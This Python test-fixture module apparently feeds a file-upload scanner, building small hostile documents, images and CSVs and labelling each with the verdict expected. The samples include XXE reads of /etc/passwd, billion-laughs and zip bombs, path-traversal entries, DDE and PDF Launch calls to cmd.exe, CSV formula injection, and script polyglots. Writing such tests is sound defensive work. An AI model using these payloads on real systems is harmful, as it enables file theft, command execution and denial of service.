"""Files made to do harm, as small as they can be. Each with the word the reader says of it."""

import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories.progress import a_pdf, a_picture
from tests.progress.files.good import MANIFEST, odt, package, sheet, with_parts, word
from tests.progress.files.reaching import LINKS, REACHING, acting, changed

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>'
)
FETCH = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
OUTSIDE = '<!DOCTYPE d SYSTEM "http://192.0.2.1/d.dtd"><d/>'
MACRO_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    'PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
FIELD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
    "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"
)
EVENT = '<script:event-listener script:language="ooo:script" script:event-name="dom:load"/>'


def with_part(content, name, text):
    return with_parts(content, {name: text})


def attached(document):
    document.attachments["tool.exe"] = b"MZ" + b"\x00" * 60


def script_on_a_page(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    document.pages[0].AA = Dictionary(O=script)


def form_of_two_kinds(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array())


def film(document):
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    document.pages[0].Annots = Array([document.make_indirect(note)])


def packed(document):
    document.Root.X = document.make_stream(package([("x.exe", "MZ")]))


def bomb(size=120):
    """So many megabytes of nothing, in one part."""
    return package([("word/document.xml", b"\x00" * (size * 1024 * 1024))])


def many_parts():
    return package([(f"part{number}.xml", b"") for number in range(5_001)], zipfile.ZIP_STORED)


def deep():
    """A document in a document in a document, each with more inside."""
    content = word()
    for _level in range(4):
        content = with_part(word(), "word/embeddings/inner.docx", content)
    return content


def quoted():
    """Parts that lie in one another: few bytes that seem to be many files."""
    content = bytearray(package([(f"p{n}", b"x" * 40) for n in range(4)], zipfile.ZIP_STORED))
    place = content.index(b"PK\x01\x02")
    for _part in range(4):
        struct.pack_into("<I", content, place + 42, 0)
        place += 46 + 2
    return bytes(content)


def linked():
    part = zipfile.ZipInfo("word/passwd")
    part.external_attr = 0o120777 << 16
    return package([("[Content_Types].xml", "<a/>"), (part, "/etc/passwd")])


def locked():
    content = bytearray(word())
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        content[place + 8] |= 1
    return bytes(content)


def flood():
    """A PNG of 60,000 × 60,000 points that is a hundred bytes long."""

    def chunk(name, content):
        return (
            struct.pack(">I4s", len(content), name)
            + content
            + struct.pack(">I", zlib.crc32(name + content))
        )

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\x00" * 99)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


HOSTILE = {
    **REACHING,
    # name: (made how, the word said of it)
    "bomb.docx": (lambda: bomb(), "too_much"),
    "small bomb.xlsx": (lambda: bomb(60), "too_much"),
    "many parts.odt": (many_parts, "too_much"),
    "nested.docx": (deep, "embedded"),
    "quoted.docx": (quoted, "too_much"),
    "deep.odt": (lambda: odt("<text:p>" * 2_000 + "</text:p>" * 2_000), "too_much"),
    "up.docx": (lambda: with_part(word(), "../../etc/cron", "x"), "paths"),
    "root.odt": (lambda: odt("", ("/etc/passwd", "x")), "paths"),
    "drive.xlsx": (lambda: package([("C:\\Windows\\x", "x")]), "paths"),
    "twice.ods": (lambda: odt("", ("content.xml", "<other/>"), kind="spreadsheet"), "paths"),
    "link.docx": (linked, "paths"),
    "locked.docx": (locked, "password"),
    "locked.odt": (
        lambda: odt(
            manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
        ),
        "password",
    ),
    "renamed.docm.docx": (
        lambda: with_part(word(), "[Content_Types].xml", MACRO_TYPES),
        "macros",
    ),
    "vba.docx": (lambda: with_part(word(), "word/vbaProject.bin", b"\x01"), "macros"),
    "excel4.xlsx": (lambda: with_part(sheet(), "xl/macrosheets/sheet1.xml", "<a/>"), "macros"),
    "activex.docx": (lambda: with_part(word(), "word/activeX/activeX1.xml", "<a/>"), "macros"),
    "basic.odt": (lambda: odt("", ("Basic/Standard/Module1.xml", "<a/>")), "macros"),
    "python.ods": (lambda: odt("", ("Scripts/python/x.py", "1"), kind="spreadsheet"), "macros"),
    "event.odt": (lambda: odt(EVENT), "macros"),
    "dde.docx": (lambda: with_part(word(), "word/document.xml", FIELD), "macros"),
    "dde.xlsx": (
        lambda: with_part(
            sheet(),
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        ),
        "macros",
    ),
    "template.docx": (
        lambda: with_part(word(), "word/_rels/settings.xml.rels", LINKS % "attachedTemplate"),
        "fetched",
    ),
    "picture elsewhere.docx": (
        lambda: with_part(word(), "word/_rels/footer1.xml.rels", LINKS % "image"),
        "fetched",
    ),
    "object.docx": (
        lambda: with_part(word(), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0x"),
        "embedded",
    ),
    "program.odt": (lambda: odt("", ("Pictures/a.png", b"MZ\x90\x00")), "embedded"),
    "laughs.docx": (lambda: with_part(word(), "word/document.xml", LAUGHS), "declared"),
    "laughs.odt": (lambda: odt("", ("meta.xml", LAUGHS)), "declared"),
    "xxe.docx": (lambda: with_part(word(), "customXml/item1.xml", FETCH), "declared"),
    "xxe.ods": (lambda: odt("", ("styles.xml", FETCH), kind="spreadsheet"), "declared"),
    "elsewhere.odt": (lambda: odt("", ("settings.xml", OUTSIDE)), "declared"),
    "drawing.xlsx": (lambda: with_part(sheet(), "xl/drawings/v.vml", FETCH), "declared"),
    "broken.docx": (lambda: with_part(word(), "word/document.xml", "<w:p>"), "damaged"),
    "sheet.docx": (sheet, "other_kind"),
    "letter.xlsx": (word, "other_kind"),
    "zip.docx": (lambda: package([("a.txt", "x")]), "other_kind"),
    "sheet.odt": (lambda: odt(kind="spreadsheet"), "other_kind"),
    "no type.odt": (
        lambda: package([("content.xml", "<a/>"), ("META-INF/manifest.xml", MANIFEST % "")]),
        "other_kind",
    ),
    "truncated.docx": (lambda: word()[:-30], "damaged"),
    "half.odt": (lambda: odt()[:200], "damaged"),
    "prefixed.docx": (lambda: HTML + word(), "two_kinds"),
    "suffixed.odt": (lambda: odt() + HTML, "two_kinds"),
    "no zip.xlsx": (lambda: b"PK\x03\x04" + b"x" * 50, "damaged"),
    "script.pdf": (lambda: acting(S=Name.JavaScript, JS="app.alert(1)"), "pdf_script"),
    "page script.pdf": (lambda: changed(script_on_a_page), "pdf_script"),
    "packed script.pdf": (
        lambda: changed(script_on_a_page, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf_script",
    ),
    "launch.pdf": (lambda: acting(S=Name.Launch, F="cmd.exe"), "pdf_script"),
    "sends.pdf": (lambda: acting(S=Name.SubmitForm, F="http://192.0.2.1/"), "pdf_form"),
    "xfa.pdf": (lambda: changed(form_of_two_kinds), "pdf_form"),
    "film.pdf": (lambda: changed(film), "pdf_media"),
    "attached.pdf": (lambda: changed(attached), "embedded"),
    "locked.pdf": (
        lambda: changed(lambda document: None, encryption=pikepdf.Encryption("owner", "user")),
        "password",
    ),
    "zip behind.pdf": (lambda: a_pdf() + package([("x.exe", "MZ")]), "two_kinds"),
    "zip inside.pdf": (lambda: changed(packed, compress_streams=False), "two_kinds"),
    "page behind.pdf": (lambda: a_pdf() + HTML, "two_kinds"),
    "truncated.pdf": (lambda: a_pdf()[:-40], "damaged"),
    "hollow.pdf": (lambda: b"%PDF-1.4\ntrailer\n<<>>\n%%EOF\n", "damaged"),
    "flood.png": (flood, "pixels"),
    "page behind.png": (lambda: a_picture("PNG") + HTML, "two_kinds"),
    "noise behind.png": (lambda: a_picture("PNG") + b"x" * 9, "two_kinds"),
    "zip behind.png": (lambda: a_picture("PNG") + package([("a", "b")]), "two_kinds"),
    "truncated.png": (lambda: a_picture("PNG", (300, 300))[:-20], "damaged"),
    "no picture.png": (lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "damaged"),
    "page inside.jpg": (lambda: a_picture("JPEG", comment=HTML), "two_kinds"),
    "page behind.jpg": (lambda: a_picture("JPEG") + HTML, "two_kinds"),
    "program behind.jpg": (lambda: a_picture("JPEG") + b"MZ\x90\x00", "two_kinds"),
    "truncated.jpg": (lambda: a_picture("JPEG", (300, 300))[:-60], "damaged"),
    "no picture.jpg": (lambda: b"\xff\xd8\xff\xe0" + b"x" * 10, "damaged"),
    "page.txt": (lambda: b"  " + HTML, "other_kind"),
    "drawing.csv": (lambda: b"<svg xmlns='x' onload='alert(1)'/>", "other_kind"),
    "gif and script.txt": (lambda: b"GIF89a=1;alert(1)", "other_kind"),
    "binary.txt": (lambda: b"abc\x00def", "other_kind"),
    "late.txt": (lambda: b"a" * 5000 + b"\x00", "other_kind"),
    "program.txt": (lambda: b"MZ\x90\x00" + b"\x00" * 20, "other_kind"),
    "formula.csv": (lambda: b"a;b\n1;=cmd|'/C calc'!A0\n", "formula"),
    "plus.csv": (lambda: b"a,+cmd|'/C calc'!A0\n", "formula"),
    "minus.csv": (lambda: b"a\t-2+3+cmd|'/C calc'!A0\n", "formula"),
    "at.csv": (lambda: b'"@SUM(1+1)*cmd|x!A0"\n', "formula"),
    "hyperlink.csv": (lambda: b'a,"=HYPERLINK(""http://192.0.2.1"")"\n', "formula"),
    "spaced.csv": (lambda: b'a;"  \t=1+1"\n', "formula"),
}
